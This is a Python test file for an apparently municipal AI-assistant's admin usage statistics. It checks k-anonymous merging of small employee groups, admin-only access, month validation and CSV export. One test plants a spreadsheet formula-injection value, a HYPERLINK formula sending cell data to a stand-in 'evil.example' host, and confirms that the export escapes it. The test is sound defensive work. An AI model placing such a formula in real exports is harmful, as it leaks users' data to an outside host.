"""Statistics never point at a single person: every shown figure covers at least k employees."""

from __future__ import annotations

from datetime import UTC, datetime

import httpx
import pytest
from hypothesis import given, settings as hsettings
from hypothesis import strategies as st

from kkgpt.db.models import UsageEvent
from kkgpt.usage.statistics import OTHER, Counts, anonymise, month_bounds
from tests.conftest import login


def _groups(sizes: dict[str, int]) -> dict[str, dict[str, Counts]]:
    return {g: {f"{g}-u{i}": Counts(turns=2) for i in range(n)} for g, n in sizes.items()}


@pytest.mark.parametrize(
    ("sizes", "visible", "other"),
    [
        ({"A": 10, "B": 7}, {"A": 10, "B": 7}, None),
        ({"A": 10, "B": 3, "C": 2}, {"A": 10}, 5),               # two small groups make a large enough "other"
        ({"A": 10, "B": 6, "C": 2}, {"A": 10}, 8),               # one small group: the smallest large one joins it
        ({"A": 10, "B": 2, "C": 1, "D": 1}, {}, 14),             # even the largest joins if it must
        ({"A": 4}, {}, None),                                    # too few employees in total: nothing at all
    ],
)
def test_small_groups_are_merged(sizes: dict[str, int], visible: dict[str, int], other: int | None) -> None:
    rows, total = anonymise(_groups(sizes), min_users=5)
    shown = {r.label: r.users for r in rows if r.label != OTHER}
    merged = [r.users for r in rows if r.label == OTHER]
    assert shown == visible and merged == ([other] if other else [])
    if sum(sizes.values()) < 5:
        assert total is None and rows == []
    else:
        assert total.users == sum(sizes.values()) and total.counts.turns == 2 * sum(sizes.values())


def test_an_employee_in_several_groups_is_counted_once() -> None:
    groups = {"tasks-A": {f"u{i}": Counts(turns=1) for i in range(5)},
              "tasks-B": {f"u{i}": Counts(turns=1) for i in range(3)}}
    rows, total = anonymise(groups, min_users=5)
    assert total.users == 5 and total.counts.turns == 8
    assert [r.label for r in rows] == [OTHER] and rows[0].users == 5


@hsettings(max_examples=200, deadline=None)
@given(st.dictionaries(st.text("ABCDEFGH", min_size=1, max_size=3), st.integers(0, 12), max_size=8),
       st.integers(2, 6))
def test_no_shown_row_and_no_difference_covers_fewer_than_k(sizes: dict[str, int], k: int) -> None:
    sizes = {g: n for g, n in sizes.items() if n}
    rows, total = anonymise(_groups(sizes), min_users=k)
    assert all(row.users >= k for row in rows)
    if total is not None:
        assert total.users >= k
        # What the total minus the named rows leaves is exactly the "other" row, itself large enough.
        named = sum(r.users for r in rows if r.label != OTHER)
        assert total.users - named in ({0} | {r.users for r in rows if r.label == OTHER})


def test_month_bounds() -> None:
    assert month_bounds("2026-12") == (datetime(2026, 12, 1, tzinfo=UTC), datetime(2027, 1, 1, tzinfo=UTC))
    with pytest.raises(ValueError):
        month_bounds("2026-13")


async def _events(services, rows: list[tuple[str, str, str | None]]) -> None:
    async with services.sessions.begin() as session:
        for user, department, task in rows:
            session.add(UsageEvent(hour=datetime(2026, 10, 5, 9, tzinfo=UTC), user_key=user, department=department,
                                   kind="turn", task_category=task, model="gpt-4o-mini", status="complete",
                                   input_tokens=100, output_tokens=50, pii_types="PERSON", special_categories=""))


async def test_admin_page_csv_and_api(client: httpx.AsyncClient, app) -> None:
    services = app.state.services
    rows = [(f"soc{i}", "Socialforvaltningen", "citizen_communication") for i in range(6)]
    rows += [(f"tmf{i}", "Teknik- og Miljøforvaltningen", "summarising") for i in range(2)]
    rows += [(f"bif{i}", "Børne- og Ungdomsforvaltningen", None) for i in range(3)]
    await _events(services, rows)

    await login(client, "Medarbejder")
    assert (await client.get("/admin/stats")).status_code == 403
    assert (await client.get("/api/v1/admin/stats?month=2026-10")).status_code == 403
    await client.post("/logout")
    await login(client, "Admin", admin=True)

    page = await client.get("/admin/stats?month=2026-10&by=department")
    assert page.status_code == 200
    assert "Socialforvaltningen" in page.text
    assert "Teknik- og Miljøforvaltningen" not in page.text and "Børne- og Ungdomsforvaltningen" not in page.text
    assert "Øvrige (sammenlagt)" in page.text and "2 grupper med færre end 5 medarbejdere" in page.text

    api = (await client.get("/api/v1/admin/stats?month=2026-10&by=department")).json()
    assert api["min_users"] == 5 and api["total"]["users"] == 11 and api["total"]["turns"] == 11
    assert {(r["group"], r["users"]) for r in api["rows"]} == {("Socialforvaltningen", 6), (None, 5)}

    csv = await client.get("/admin/stats.csv?month=2026-10&by=task_category")
    assert csv.headers["content-type"].startswith("text/csv")
    lines = csv.text.strip().splitlines()
    assert lines[0].startswith("Opgavetype;Medarbejdere;Svar")
    assert any(line.startswith("Kommunikation med borgere;6;6") for line in lines)
    assert all(int(line.split(";")[1]) >= 5 for line in lines[1:])

    bad = await client.get("/api/v1/admin/stats?month=oktober")
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "invalid_month"


async def test_a_quiet_month_shows_nothing(client: httpx.AsyncClient, app) -> None:
    await _events(app.state.services, [(f"u{i}", "Økonomiforvaltningen", None) for i in range(3)])
    await login(client, "Admin", admin=True)
    page = await client.get("/admin/stats?month=2026-10")
    assert "Færre end 5 medarbejdere har brugt KK-GPT" in page.text and "Økonomiforvaltningen" not in page.text
    assert (await client.get("/api/v1/admin/stats?month=2026-10")).json()["total"] is None


async def test_only_finished_months_and_no_formulas_in_csv(client: httpx.AsyncClient, app) -> None:
    from kkgpt.db.models import utcnow

    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
    await _events(app.state.services, [(f"u{i}", hostile, None) for i in range(5)])
    await login(client, "Admin", admin=True)
    current = utcnow().strftime("%Y-%m")
    refused = await client.get(f"/api/v1/admin/stats?month={current}")
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "month_not_closed"
    csv = (await client.get("/admin/stats.csv?month=2026-10&by=department")).text
    assert "\n'=HYPERLINK" in csv.replace("\r\n", "\n") or "\n\"'=HYPERLINK" in csv.replace("\r\n", "\n")
    assert "\n=HYPERLINK" not in csv and '\n"=HYPERLINK' not in csv
